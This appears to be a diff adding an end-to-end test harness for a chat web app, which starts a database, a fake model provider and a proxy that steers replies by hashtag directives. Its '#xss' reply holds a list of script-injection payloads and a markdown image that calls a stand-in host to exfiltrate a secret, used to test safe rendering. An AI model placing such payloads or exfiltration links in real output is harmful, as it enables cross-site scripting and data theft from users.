@@ -1,0 +1,203 @@
+/**
+ * The stack the Playwright tests run against (Playwright's `webServer` starts it and waits
+ * for /api/health):
+ *   - a real PostgreSQL (tests/support/postgres.ts);
+ *   - the fake provider, in this process, replying with a word-by-word echo at a readable pace;
+ *   - in front of it, a thin "directive" layer so a browser test can steer a reply through
+ *     the message it types (Playwright cannot reach the fake's in-process `control`):
+ *       #slow  a long reply, streamed slowly (for Stop)
+ *       #code  Markdown with a code block, a table and a list
+ *       #fail  a few words, then a provider error mid-stream; only the first time (for Retry)
+ *       #xss   a reply full of script-injection attempts
+ *     and it answers the server's title requests with the first words of the message, so
+ *     titles are predictable (and carry any payload the message had);
+ *   - the real server (`bun server/index.ts`) serving the built app from web/build.
+ * Builds the app first when web/build is missing. Port: E2E_PORT (default 4321).
+ */
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { startCluster } from '../support/postgres';
+import { startFakeProvider } from '../support/fake-provider/index';
+
+const root = join(import.meta.dir, '..', '..');
+const port = Number(process.env.E2E_PORT ?? 4321);
+
+if (!existsSync(join(root, 'web', 'build', 'index.html')) || process.env.E2E_BUILD === '1') {
+  const build = Bun.spawnSync(['bun', 'run', 'build'], { cwd: root, stdout: 'inherit', stderr: 'inherit' });
+  if (build.exitCode !== 0) process.exit(build.exitCode ?? 1);
+}
+
+const cluster = await startCluster();
+const fake = await startFakeProvider(0);
+fake.chat.defaults.firstTokenDelayMs = 150;
+fake.chat.defaults.chunkDelayMs = 70;
+
+const XSS_REPLY = [
+  'Here are some payloads, rendered harmlessly:',
+  '',
+  '<script>window.__xss = "script"</script>',
+  '<img src=x onerror="window.__xss=\'img\'">',
+  '[click me](javascript:window.__xss=\'link\')',
+  '<svg onload="window.__xss=\'svg\'"><circle r="5"/></svg>',
+  '<iframe src="javascript:window.__xss=\'iframe\'"></iframe>',
+  '<a href="#" onclick="window.__xss=\'onclick\'">raw link</a>',
+  '![exfiltrate](https://evil.example/collect?q=secret)',
+  '<details open ontoggle="window.__xss=\'toggle\'"><summary>x</summary></details>',
+].join('\n');
+
+const CODE_REPLY = [
+  'Here is a function:',
+  '',
+  '```ts',
+  'export function greet(name: string): string {',
+  '  // Say hello politely.',
+  '  return `Hello, ${name}!`;',
+  '}',
+  '```',
+  '',
+  '| Language | Typed |',
+  '| --- | --- |',
+  '| TypeScript | yes |',
+  '| JavaScript | no |',
+  '',
+  '- first item',
+  '- second item',
+].join('\n');
+
+// One word per line, so the reply outgrows a phone's screen while it streams.
+const SLOW_REPLY = Array.from({ length: 80 }, (_, i) => `word${i + 1}`).join('\n\n');
+
+function chunked(pieces: string[], delayMs: number, failAfter?: number): Response {
+  const encoder = new TextEncoder();
+  const id = `chatcmpl-${crypto.randomUUID()}`;
+  const created = Math.floor(Date.now() / 1000);
+  const chunk = (delta: Record<string, unknown>, finish: string | null) => ({
+    id,
+    object: 'chat.completion.chunk',
+    created,
+    model: 'gpt-4o-mini',
+    choices: [{ index: 0, delta, finish_reason: finish }],
+  });
+  let cancelled = false;
+  const body = new ReadableStream<Uint8Array>({
+    async start(controller) {
+      const send = (data: unknown) => {
+        if (cancelled) return;
+        controller.enqueue(encoder.encode(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`));
+      };
+      send(chunk({ role: 'assistant', content: '' }, null));
+      for (const [i, piece] of pieces.entries()) {
+        if (cancelled) return;
+        if (failAfter !== undefined && i === failAfter) {
+          send({ error: { message: 'The model is overloaded. Please try again.', type: 'server_error' } });
+          controller.close();
+          return;
+        }
+        await Bun.sleep(delayMs);
+        send(chunk({ content: piece }, null));
+      }
+      send(chunk({}, 'stop'));
+      send('[DONE]');
+      if (!cancelled) controller.close();
+    },
+    cancel() {
+      cancelled = true;
+    },
+  });
+  return new Response(body, { headers: { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' } });
+}
+
+const failedOnce = new Set<string>();
+const words = (text: string) => text.match(/\S+\s*|\s+/g) ?? [];
+
+function lastUserText(messages: { role: string; content: unknown }[]): string {
+  const last = [...messages].reverse().find((m) => m.role === 'user');
+  if (!last) return '';
+  if (typeof last.content === 'string') return last.content;
+  if (Array.isArray(last.content)) return last.content.map((p: { text?: string }) => p.text ?? '').join(' ');
+  return '';
+}
+
+const directives = Bun.serve({
+  port: 0,
+  hostname: '127.0.0.1',
+  idleTimeout: 0,
+  async fetch(req) {
+    const url = new URL(req.url);
+    const forward = () => {
+      const target = new URL(url.pathname + url.search, fake.url);
+      return fetch(target, { method: req.method, headers: req.headers, body: req.method === 'GET' ? undefined : bodyText });
+    };
+    const bodyText = req.method === 'GET' ? '' : await req.text();
+    if (!url.pathname.endsWith('/chat/completions') || req.method !== 'POST') return forward();
+    let parsed: { messages?: { role: string; content: unknown }[]; stream?: boolean } = {};
+    try {
+      parsed = JSON.parse(bodyText);
+    } catch {
+      return forward();
+    }
+    const messages = parsed.messages ?? [];
+    const system = messages.find((m) => m.role === 'system');
+    if (parsed.stream !== false && typeof system?.content === 'string' && system.content.startsWith('You name conversations')) {
+      const first = lastUserText(messages).split('\n\n').slice(1).join(' ');
+      const title = first.replace(/#\w+/g, '').trim().split(/\s+/).slice(0, 5).join(' ') || 'Conversation';
+      return chunked([title], 10);
+    }
+    const text = lastUserText(messages);
+    if (text.includes('#slow')) return chunked(words(SLOW_REPLY), 120);
+    if (text.includes('#code')) return chunked(words(CODE_REPLY), 15);
+    if (text.includes('#xss')) return chunked(words(XSS_REPLY), 5);
+    // Fails the first time for a given message, so Retry can succeed.
+    if (text.includes('#fail') && !failedOnce.has(text)) {
+      failedOnce.add(text);
+      return chunked(words('Let me think about that for a'), 60, 4);
+    }
+    return forward();
+  },
+});
+const providerUrl = `http://127.0.0.1:${directives.port}`;
+
+const dataDir = mkdtempSync(join(tmpdir(), 'parley-e2e-'));
+const server = Bun.spawn(['bun', join(root, 'server', 'index.ts')], {
+  cwd: root,
+  env: {
+    ...process.env,
+    NODE_ENV: 'production',
+    DATABASE_URL: cluster.url,
+    DATA_DIR: dataDir,
+    PORT: String(port),
+    HOST: '127.0.0.1',
+    PUBLIC_URL: `http://127.0.0.1:${port}`,
+    AUTH_IP_LIMIT: '100000',
+    AUTH_ACCOUNT_LIMIT: '1000',
+    OPENAI_BASE_URL: `${providerUrl}/v1`,
+    OPENAI_API_KEY: 'test',
+    MISTRAL_SERVER_URL: providerUrl,
+    MISTRAL_API_KEY: 'test',
+    DEFAULT_MODEL: 'openai:gpt-4o-mini',
+    LOG_LEVEL: process.env.LOG_LEVEL ?? 'warn',
+  },
+  stdout: 'inherit',
+  stderr: 'inherit',
+});
+
+let stopping = false;
+function stop(code = 0) {
+  if (stopping) return;
+  stopping = true;
+  server.kill('SIGTERM');
+  directives.stop(true);
+  fake.stop();
+  cluster.destroy();
+  rmSync(dataDir, { recursive: true, force: true });
+  process.exit(code);
+}
+process.on('SIGINT', () => stop());
+process.on('SIGTERM', () => stop());
+console.log(`e2e stack: app http://127.0.0.1:${port}, provider ${providerUrl}, database ${cluster.url}`);
+const exit = await server.exited;
+if (!stopping) {
+  console.error(`server exited with ${exit}`);
+  stop(1);
+}
